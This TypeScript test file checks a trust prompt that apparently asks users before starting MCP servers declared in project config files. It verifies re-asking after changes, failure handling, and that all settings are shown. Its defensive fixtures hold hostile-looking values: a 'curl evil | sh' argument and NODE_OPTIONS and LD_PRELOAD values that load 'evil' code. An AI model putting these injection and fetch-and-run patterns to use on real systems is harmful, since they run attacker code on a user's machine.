import { createMemoryLock, createMemoryStore, type Lock, type Store } from "@hostside/core";
import { createTrust, readConfig, type TrustAnswer, type TrustEntry, type TrustQuestion } from "@hostside/config";
import { describe, expect, it } from "vitest";
import { settingsId } from "../drafts/configured-server.ts";

describe("createTrust()", () => {
  it("asks once, and remembers a yes", async () => {
    const { trust, questions } = answering("trust");
    for (let load = 0; load < 3; load++) expect(await trust.decide(entry(), { ask: true })).toEqual({ trusted: true });
    expect(questions).toHaveLength(1);
  });

  it("remembers a no", async () => {
    const { trust, questions } = answering("refuse");
    expect(await trust.decide(entry(), { ask: true })).toMatchObject({ trusted: false, why: "refused" });
    expect(await trust.decide(entry(), { ask: true })).toMatchObject({ trusted: false, why: "refused" });
    expect(questions).toHaveLength(1);
  });

  it("shows what would start, what it would get, and where it is written", async () => {
    const { trust, questions } = answering("trust");
    await trust.decide(entry({ command: "npx", args: ["-y", "x"], env: { A: "${TOKEN}", B: "${HOME:-/}" } }), {
      ask: true,
    });
    expect(questions).toEqual([
      {
        serverId: "one",
        folder: "/srv/app",
        file: "/srv/app/.mcp.json",
        line: 1,
        column: 16,
        starts: ["npx", "-y", "x"],
        sets: ["A=${TOKEN}", "B=${HOME:-/}"],
        settings: [],
        replaces: [],
        references: [
          { kind: "variable", name: "HOME" },
          { kind: "variable", name: "TOKEN" },
        ],
        changed: [],
        fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
    ]);
  });

  it("shows what would start whatever its name is", async () => {
    const { trust, questions } = answering("trust");
    const named = entry({ command: "npx" });
    await trust.decide({ ...named, server: { ...named.server, id: settingsId } }, { ask: true });
    expect(questions).toMatchObject([{ serverId: "(settings)", starts: ["npx"] }]);
  });

  it("shows all that takes effect, whole, and nothing that does not", async () => {
    const { trust, questions } = answering("trust");
    const env = {
      NODE_OPTIONS: "--require ./evil.js",
      GIT_ASKPASS_TOKEN: "./evil",
      SUDO_ASKPASS: "${file:./ask}",
      API_KEY: "${file:./key}",
    };
    const server = {
      command: "npx",
      env,
      inheritEnv: "all",
      envFile: ".env",
      deny: ["x"],
      trustAnnotations: true,
      labels: { trust: "own" },
      args: ["${file:./args}"],
      oauth: { resource: "https://api.example.com", clientSecret: "${file:./secret}" },
    };
    const contents = {
      ".env": "LD_PRELOAD=./evil.so\nTOKEN=s3cret",
      "./args": "x",
      "./ask": "rm",
      "./key": "1234",
      "./secret": "12345",
    };
    await trust.decide({ ...hostsideEntry(server), contents, replaces: ["/home/me/mcp.json"] }, { ask: true });
    expect(questions).toMatchObject([
      {
        sets: [
          "NODE_OPTIONS=--require ./evil.js",
          "GIT_ASKPASS_TOKEN=./evil",
          "SUDO_ASKPASS=${file:./ask}",
          "API_KEY=${file:./key}",
        ],
        settings: [
          'inheritEnv="all"',
          'deny=["x"]',
          'envFile=".env"',
          'oauth.clientSecret="${file:./secret}"',
          'oauth.resource="https://api.example.com"',
          'LD_PRELOAD="./evil.so" of file .env',
          "TOKEN (6 characters) of file .env",
          'file ./args has "x"',
          'file ./ask has "rm"',
          "file ./key has 4 characters",
          "file ./secret has 5 characters",
        ],
        replaces: ["/home/me/mcp.json"],
      },
    ]);
  });

  it.each([
    ["nexo", { mcp: { servers: { one: { transport: { type: "stdio", command: "x" } } } } }, "breaker=true"],
    ["anda", { servers: { one: { transport: { type: "stdio", command: "x" } } } }, "${workspaceFolder}"],
  ] as const)("shows what the dialect %s adds to an entry", async (dialect, config, shown) => {
    const { trust, questions } = answering("trust");
    const [server] = readConfig(config, { dialect }).servers;
    if (server === undefined) throw new TypeError("the entry cannot be read");
    await trust.decide({ server, folder: "/srv/app" }, { ask: true });
    const [{ cwd, settings }] = questions as [TrustQuestion];
    expect([cwd, ...settings]).toContain(shown);
  });

  it.each([
    ["an argument", { args: ["-c", "x".repeat(10_000), "curl evil | sh"] }],
    ["many arguments", { args: Array.from({ length: 900 }, (_, index) => `-${index}`) }],
    ["escapes", { args: ["\u202E".repeat(800)] }],
    ["a variable", { env: { A: "x".repeat(10_000) } }],
    ["a name of a tool", { deny: ["x".repeat(10_000)] }],
  ])("asks nobody about what is too long to be shown whole: %s", async (_, more) => {
    const { trust, questions } = answering("trust");
    const verdict = await trust.decide(hostsideEntry({ command: "sh", ...more }), { ask: true });
    expect(verdict).toMatchObject({ trusted: false, why: "too-long", message: expect.stringContaining("shown whole") });
    expect(questions).toEqual([]);
  });

  const before = { command: "npx", args: ["a"], env: { A: "${TOKEN}" } };
  it.each<[string, object, string[]]>([
    ["a command", { ...before, command: "sh" }, ["command"]],
    ["an argument", { ...before, args: ["a", "-c"] }, ["args"]],
    ["a value of a variable", { ...before, env: { A: "x${TOKEN}" } }, ["env"]],
    ["the name of what is put in", { ...before, env: { A: "${OTHER}" } }, ["env", "references"]],
    ["a way of signing in", { ...before, oauth: { clientId: "other" } }, ["oauth"]],
  ])("asks again after a change of %s, and says what changed", async (_, after, changed) => {
    const { trust, questions } = answering("trust");
    await trust.decide(entry(before), { ask: true });
    expect(await trust.decide(entry(after))).toMatchObject({ trusted: false, why: "undecided" });
    await trust.decide(entry(after), { ask: true });
    expect(questions[1]).toMatchObject({ changed, before: "trust" });
  });

  it("asks again after a change of a file of the project that is put into the entry", async () => {
    const { trust, questions } = answering("trust");
    await trust.decide({ ...entry(), files: { ".env": "hash of a" } }, { ask: true });
    await trust.decide({ ...entry(), files: { ".env": "hash of b" } }, { ask: true });
    expect(questions.map(({ changed }) => changed)).toEqual([[], ["file .env"]]);
  });

  it.each<[string, TrustEntry]>([
    ["folder", { ...entry(), folder: "/srv/clone" }],
    ["file", entry(undefined, "/srv/app/.cursor/mcp.json")],
  ])("asks again for another %s, and the first answer stays", async (_, other) => {
    const { trust, questions } = answering("trust");
    await trust.decide(entry(), { ask: true });
    await trust.decide(other, { ask: true });
    expect(questions.map(({ changed }) => changed)).toEqual([[], []]);
    expect(await trust.decide(entry())).toEqual({ trusted: true });
  });

  it("trusts nothing where there is nobody to ask, and says so", async () => {
    const trust = createTrust({ store: createMemoryStore() });
    expect(trust.canAsk).toBe(false);
    expect(await trust.decide(entry(), { ask: true })).toMatchObject({
      trusted: false,
      why: "undecided",
      message: "is brought by a project, and there is nobody to ask whether it is trusted",
    });
  });

  it.each<[string, () => Promise<never> | Promise<undefined>, string]>([
    ["fails", () => Promise.reject(new Error("secret")), "failed"],
    ["gives no answer", () => Promise.resolve(undefined), "undecided"],
    ["gives another answer", () => Promise.resolve("yes" as never), "undecided"],
  ])("trusts nothing, and remembers nothing, where whoever asks %s", async (_, ask, why) => {
    const store = createMemoryStore();
    const verdict = await createTrust({ store, ask }).decide(entry(), { ask: true });
    expect(verdict).toMatchObject({ trusted: false, why });
    expect(JSON.stringify(verdict)).not.toContain("secret");
    expect(await createTrust({ store }).list()).toEqual([]);
  });

  it.each(["get", "set"] as const)("trusts nothing where %s of the store fails, and says so", async (method) => {
    const store: Store = { ...createMemoryStore(), [method]: () => Promise.reject(new Error("down")) };
    const verdict = await createTrust({ store, ask: () => Promise.resolve("trust") }).decide(entry(), { ask: true });
    expect(verdict).toMatchObject({ trusted: false, why: "failed" });
    expect(verdict).toHaveProperty("message", expect.stringContaining("store"));
  });

  it.each<unknown>([true, "trust", {}, { answer: "trust" }, { answer: "trust", fingerprint: 1 }])(
    "takes %j in the store for no answer",
    async (value) => {
      const memory = createMemoryStore();
      const trust = createTrust({ store: { ...memory, get: () => Promise.resolve(value) } });
      expect(await trust.decide(entry())).toMatchObject({ trusted: false, why: "undecided" });
    },
  );

  it("asks the same question once at a time, and one question after the other", async () => {
    let open = 0;
    let most = 0;
    const ask = async (): Promise<TrustAnswer> => {
      most = Math.max(most, ++open);
      await Promise.resolve();
      open--;
      asked++;
      return "trust";
    };
    let asked = 0;
    const trust = createTrust({ store: createMemoryStore(), ask });
    const entries = [entry(), entry(), entry({ command: "other" }, "/srv/app/b.json")];
    await Promise.all(entries.map((one) => trust.decide(one, { ask: true })));
    expect({ asked, most }).toEqual({ asked: 2, most: 1 });
  });

  it("waits for no answer once its signal aborts", async () => {
    const trust = createTrust({ store: createMemoryStore(), ask: () => new Promise(() => undefined) });
    const controller = new AbortController();
    const decided = trust.decide(entry(), { ask: true, signal: controller.signal });
    controller.abort();
    expect(await decided).toMatchObject({ trusted: false, why: "undecided" });
  });

  it("lists what was answered without any value, and revokes it", async () => {
    const { trust } = answering("trust");
    await trust.decide(entry({ command: "npx", env: { KEY: "a-literal-secret" } }), { ask: true });
    await trust.remember({ ...entry(), folder: "/srv/other" }, "refuse");
    const records = await trust.list();
    expect(records.map(({ folder, serverId, answer }) => [folder, serverId, answer])).toEqual([
      ["/srv/app", "one", "trust"],
      ["/srv/other", "one", "refuse"],
    ]);
    expect(JSON.stringify(records)).not.toContain("a-literal-secret");
    expect(await trust.revoke({ folder: "/srv/app" })).toBe(1);
    expect(await trust.decide(entry({ command: "npx", env: { KEY: "a-literal-secret" } }))).toMatchObject({
      trusted: false,
    });
    expect(await trust.list()).toHaveLength(1);
  });

  it("of a later version trusts nothing, and leaves it as it is", async () => {
    const kept = new Map<string, unknown>();
    const store: Store = {
      get: async (key) => kept.get(key),
      set: async (key, value) => kept.set(key, value),
      delete: async (key) => kept.delete(key),
    };
    const trust = createTrust({ store, ask: async () => "trust" });
    expect(await trust.decide(entry(), { ask: true })).toEqual({ trusted: true });
    for (const key of kept.keys()) {
      const before = new Map(kept);
      kept.set(key, { version: 9, value: {} });
      expect(await trust.decide(entry(), { ask: true })).toMatchObject({ trusted: false, why: "failed" });
      await expect(trust.remember(entry(), "refuse")).rejects.toMatchObject({
        code: "store_failed",
        message: expect.stringContaining("later version of Hostside (format 9"),
      });
      expect(kept.get(key)).toEqual({ version: 9, value: {} });
      for (const [one, value] of before) kept.set(one, value);
    }
  });

  it("is not written by who lost the lock without noticing", async () => {
    const store = createMemoryStore();
    const real = createMemoryLock();
    const lock: Lock = {
      withLock: (key, leaseMs, work) =>
        real.withLock(key, leaseMs, async (signal, fencingToken) => {
          if (fencingToken !== undefined)
            await store.set("other", 1, undefined, { ...fencingToken, number: fencingToken.number + 1 });
          return work(signal, fencingToken);
        }),
    };
    await expect(createTrust({ store, lock }).remember(entry(), "trust")).rejects.toMatchObject({
      code: "store_failed",
    });
    expect(await createTrust({ store }).list()).toEqual([]);
  });

  it("refuses options that it does not know", () => {
    expect(() => createTrust({ store: createMemoryStore(), asks: 1 } as never)).toThrow(TypeError);
  });
});

function hostsideEntry(server: object): TrustEntry {
  const [first] = readConfig({ servers: { one: server } }, { file: "/srv/app/hostside.json" }).servers;
  if (first === undefined) throw new TypeError("the entry cannot be read");
  return { server: first, folder: "/srv/app" };
}

function entry(server: object = { command: "npx" }, file = "/srv/app/.mcp.json"): TrustEntry {
  const result = readConfig(`{"mcpServers":{"one":${JSON.stringify(server)}}}`, { file, dialect: "claude-code" });
  const [first] = result.servers;
  if (first === undefined) throw new Error(JSON.stringify(result.problems));
  return { server: first, folder: "/srv/app" };
}

function answering(answer: TrustAnswer) {
  const questions: TrustQuestion[] = [];
  const trust = createTrust({
    store: createMemoryStore(),
    ask(question) {
      questions.push(question);
      return Promise.resolve(answer);
    },
  });
  return { trust, questions };
}
